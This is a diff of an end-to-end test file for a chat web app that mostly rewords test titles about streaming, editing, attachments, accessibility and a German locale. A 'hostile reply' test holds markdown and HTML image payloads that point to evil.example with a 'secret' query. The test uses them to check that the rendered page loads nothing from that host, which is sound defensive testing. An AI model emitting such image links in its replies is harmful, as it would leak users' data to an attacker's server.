@@ -17,8 +17,8 @@ const SOON = { timeout: 15_000 }
 
 const open = (path = "/dashboard/chat", options?: BrowserContextOptions) => chat.open(path, options)
 
-describe("a long answer", () => {
-  it("goes on through a reload, grows in a second window, and is stopped there: nothing twice, nothing lost", async () => {
+describe("a long reply", () => {
+  it("continues through a reload, grows in a second window and is stopped there, with nothing doubled or lost", async () => {
     const one = await open()
     await ask(one, "/long 4000")
     await one.waitForURL(/\/dashboard\/chat\/[0-9a-f-]{36}$/)
@@ -43,7 +43,7 @@ describe("a long answer", () => {
     expect(await one.getByRole("log").getByRole("article").count()).toBe(2)
   })
 
-  it("is seen by the tab that asked as it is stored, from its first words to its last", async () => {
+  it("appears as it is stored, from first to last word, in the tab that sent the message", async () => {
     const page = await open()
     await ask(page, "/long 300")
     await page.waitForURL(/\/dashboard\/chat\/[0-9a-f-]{36}$/)
@@ -54,7 +54,7 @@ describe("a long answer", () => {
     expect(words(await lastAnswer(page))).toBe(words(stored?.content ?? ""))
   })
 
-  it("is stopped with Escape from wherever the keyboard is", async () => {
+  it("is stopped with Escape wherever the focus is", async () => {
     const page = await open()
     await ask(page, "/slow 20")
     await says(page, "One word")
@@ -63,7 +63,7 @@ describe("a long answer", () => {
     await page.getByText("You stopped this reply.").waitFor()
   })
 
-  it("leaves anyone who reads further up in peace, and can be gone back to", async () => {
+  it("does not scroll anyone who reads further up, and offers a way back to its end", async () => {
     const page = await open(await chat.thread(40))
     await ask(page, "/long 1500")
     await says(page, "word 20,")
@@ -80,7 +80,7 @@ describe("a long answer", () => {
     await page.getByText("You stopped this reply.").waitFor()
   })
 
-  it("is announced when it begins and when it ends, and not between", async () => {
+  it("is announced to screen readers when it begins and when it ends, and not in between", async () => {
     const page = await open()
     const status = page.getByRole("status").filter({ hasText: /The reply/ })
     await ask(page, "/long 200")
@@ -91,7 +91,7 @@ describe("a long answer", () => {
 })
 
 describe("the chat in German", () => {
-  it("says everything in German but what the model said", async () => {
+  it("shows everything in German except the model's text", async () => {
     const page = await open("/dashboard/chat", { locale: "de-DE" })
     await page.getByRole("heading", { name: "Was möchten Sie wissen?" }).waitFor()
     await page.getByLabel("Ihre Frage").fill("/slow 20")
@@ -103,8 +103,8 @@ describe("the chat in German", () => {
   })
 })
 
-describe("what can be done with an answer", () => {
-  it("is to ask in other words: what was said after it goes", async () => {
+describe("a reply or its message", () => {
+  it("is replaced by editing the message, which removes everything after it", async () => {
     const page = await open()
     await ask(page, "The first question")
     await ended(page)
@@ -131,7 +131,7 @@ describe("what can be done with an answer", () => {
     expect(await log.getByRole("article").count()).toBe(2)
   })
 
-  it("is to read what was there before a question was edited, in a narrow window too", async () => {
+  it("shows earlier versions of an edited message, in a narrow window too", async () => {
     const page = await open()
     await ask(page, "Which **sea** is deep?")
     await ended(page)
@@ -154,7 +154,7 @@ describe("what can be done with an answer", () => {
     await dialog.waitFor({ state: "detached" })
   })
 
-  it("is to have it given again", async () => {
+  it("is regenerated", async () => {
     const page = await open()
     await ask(page, "What time is it?")
     await ended(page)
@@ -167,7 +167,7 @@ describe("what can be done with an answer", () => {
     expect(await page.getByRole("log").getByRole("article").count()).toBe(2)
   })
 
-  it("is to try again where the model failed", async () => {
+  it("is retried where the model failed", async () => {
     const page = await open()
     await ask(page, "/fail500")
     const again = page.getByRole("button", { name: "Try again" })
@@ -177,7 +177,7 @@ describe("what can be done with an answer", () => {
     expect(await page.getByRole("log").getByRole("article").count()).toBe(2)
   })
 
-  it("is to let it continue after thirty seconds", async () => {
+  it("is continued after it was stopped at thirty seconds", async () => {
     const page = await open(await chat.thread(2, { status: "timeout" }))
     await page.getByText("Stopped at the time limit.").waitFor()
     await page.getByRole("button", { name: "Continue" }).click()
@@ -185,7 +185,7 @@ describe("what can be done with an answer", () => {
     await ended(page)
   })
 
-  it("is to look at the tools it used, and at how it was thought through", async () => {
+  it("shows the tools and the reasoning behind it", async () => {
     const page = await open()
     await ask(page, '/tool currentTime {"timeZone":"Europe/Lisbon"}')
     await page.getByText("Checked the time").click()
@@ -201,7 +201,7 @@ describe("what can be done with an answer", () => {
     await ended(page)
   })
 
-  it("is to copy its code, coloured once it is whole", async () => {
+  it("has code to copy, highlighted once it is complete", async () => {
     const page = await open("/dashboard/chat", { permissions: ["clipboard-read", "clipboard-write"] })
     await ask(page, "/markdown")
     await ended(page)
@@ -213,7 +213,7 @@ describe("what can be done with an answer", () => {
     )
   })
 
-  it("is to read formulas in it", async () => {
+  it("shows formulas", async () => {
     const page = await open(await chat.thread(0, { say: "It is $e = mc^2$, and\n\n$$\\frac{a}{b}$$" }))
     await page.locator("math mfrac").waitFor()
     expect(await page.locator("math").count()).toBe(2)
@@ -221,8 +221,8 @@ describe("what can be done with an answer", () => {
   })
 })
 
-describe("a question that was not taken", () => {
-  it("goes back to where it was written, with the time to wait", async () => {
+describe("a message that was refused", () => {
+  it("returns to the input with the time to wait", async () => {
     const page = await open(await chat.thread(2))
     await page.route("**/api/chat", (route) =>
       route.fulfill({ status: 429, headers: { "retry-after": "3" }, json: { error: "Too many requests" } }),
@@ -239,7 +239,7 @@ describe("a question that was not taken", () => {
     chat.forgive(/429/)
   })
 
-  it("is not asked twice when its sender only did not hear that it was taken", async () => {
+  it("is not sent twice if only the confirmation was lost", async () => {
     const page = await open(await chat.thread(2))
     await page.route("**/api/chat", async (route) => {
       await route.fetch()
@@ -254,7 +254,7 @@ describe("a question that was not taken", () => {
     chat.forgive(/ERR_FAILED/)
   })
 
-  it("is kept while it is written, for each conversation by itself", async () => {
+  it("is kept as a draft for each conversation separately", async () => {
     const [first, second] = [await chat.thread(2), await chat.thread(2)]
     const page = await open(first)
     await page.getByLabel("Your question").fill("half a question")
@@ -265,8 +265,8 @@ describe("a question that was not taken", () => {
   })
 })
 
-describe("files", () => {
-  it("go with a question when they are dropped, and are seen with it", async () => {
+describe("attached files", () => {
+  it("are sent with a message when they are dropped, and are shown with it", async () => {
     const page = await open()
     // The page that has taken the focus hears what is dropped.
     await page.locator("textarea:focus").waitFor()
@@ -289,7 +289,7 @@ describe("files", () => {
     await question.getByText("This file was deleted").waitFor()
   })
 
-  it("that are images are seen small, and only from here", async () => {
+  it("that are images are shown as thumbnails, loaded from this site only", async () => {
     const page = await open()
     const pixel =
       "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
@@ -308,7 +308,7 @@ describe("files", () => {
     await ended(page)
   })
 
-  it("are chosen from those that are here, by name and by the keyboard alone", async () => {
+  it("are chosen from the stored files, by name and by keyboard alone", async () => {
     await chat.person("/api/files?name=harbour.txt", { method: "POST", body: "a list of moorings" })
     const page = await open()
     await page.getByRole("button", { name: "Add files" }).focus()
@@ -343,7 +343,7 @@ describe("files", () => {
 })
 
 describe("the list of conversations", () => {
-  it("renames one where it stands, and gives one that was deleted back", async () => {
+  it("renames a conversation in place, and restores a deleted one", async () => {
     const path = await chat.thread(2, { title: "Moorings" })
     const page = await open(path)
     const list = page.getByRole("navigation", { name: "Conversations" })
@@ -368,7 +368,7 @@ describe("the list of conversations", () => {
     await page.getByText("Question 0").waitFor()
   })
 
-  it("finds what was said, and leads to it however far back it is", async () => {
+  it("finds a message and opens it, however far back it is", async () => {
     const path = await chat.thread(130, { title: "A long talk", first: "Where do the xylophones sleep?" })
     const page = await open()
     await page.getByLabel("Search conversations").fill("xylophon")
@@ -382,7 +382,7 @@ describe("the list of conversations", () => {
     await expect.poll(() => isInSight(page, "Where do the xylophones sleep?"), SOON).toBe(true)
   })
 
-  it("saves one as a file", async () => {
+  it("saves a conversation as a file", async () => {
     const page = await open(await chat.thread(4, { title: "To be saved" }))
     await page.locator("header").getByRole("button", { name: "More actions for To be saved" }).click()
     const [download] = await Promise.all([
@@ -392,7 +392,7 @@ describe("the list of conversations", () => {
     expect(download.suggestedFilename()).toMatch(/\.md$/)
   })
 
-  it("is left with a shortcut for a new one", async () => {
+  it("starts a new conversation with a shortcut", async () => {
     const page = await open(await chat.thread(2))
     await page.keyboard.press("Control+Shift+O")
     await page.waitForURL(/\/dashboard\/chat$/)
@@ -401,12 +401,12 @@ describe("the list of conversations", () => {
 })
 
 describe("a long conversation", () => {
-  it("stands at its end before any script has run", async () => {
+  it("is at its end before any script has run", async () => {
     const page = await open(await chat.thread(60), { javaScriptEnabled: false })
     expect(await isInSight(page, "Answer 59")).toBe(true)
   })
 
-  it("brings in what was said before as one scrolls up, and moves nothing by it", async () => {
+  it("loads earlier messages when scrolled up, without moving the view", async () => {
     const page = await open(await chat.thread(130))
     const log = page.getByRole("log").getByRole("article")
     expect(await log.count()).toBeLessThan(130)
@@ -426,7 +426,7 @@ describe("a long conversation", () => {
   })
 })
 
-describe("a hostile answer", () => {
+describe("a hostile reply", () => {
   const HOSTILE = [
     "![leak](https://evil.example/p.png?of=secret) ![leak][1] <img src='https://evil.example/i.png'>",
     "[1]: https://evil.example/reference.png",
@@ -444,7 +444,7 @@ describe("a hostile answer", () => {
       Array.from({ length: 10_000 }, (_, i) => `${" ".repeat(Math.min(i, 90) * 2)}- x`).join("\n"),
     ],
     ["of ten thousand lists in one line", `${"- ".repeat(10_000)}x`],
-  ])("%s asks nobody for anything, and holds nothing up", async (_, say) => {
+  ])("%s requests nothing and blocks nothing", async (_, say) => {
     const path = await chat.thread(2, { say })
     const html = await (await chat.person(path)).text()
     expect(html.match(/<(?:img|link|script|source|iframe)[^>]*evil\.example[^>]*>/g)).toBeNull()
@@ -470,7 +470,7 @@ describe("every page of the chat", () => {
   const looks = ["light", "dark"] as const
   const widths = [390, 1440]
   it.each(looks.flatMap((look) => widths.map((width) => [look, width] as const)))(
-    "has no accessibility faults, in %s colours and %i pixels wide",
+    "has no accessibility violations, in %s colours and %i pixels wide",
     async (colorScheme, width) => {
       const options = { colorScheme, viewport: { width, height: 900 }, reducedMotion: "reduce" } as const
       const page = await open("/dashboard/chat", options)
@@ -487,7 +487,7 @@ describe("every page of the chat", () => {
     60_000,
   )
 
-  it("can be used on a small screen with the keyboard open", async () => {
+  it("is usable on a small screen with the on-screen keyboard open", async () => {
     const page = await open(await chat.thread(10), {
       viewport: { width: 390, height: 420 },
       hasTouch: true,
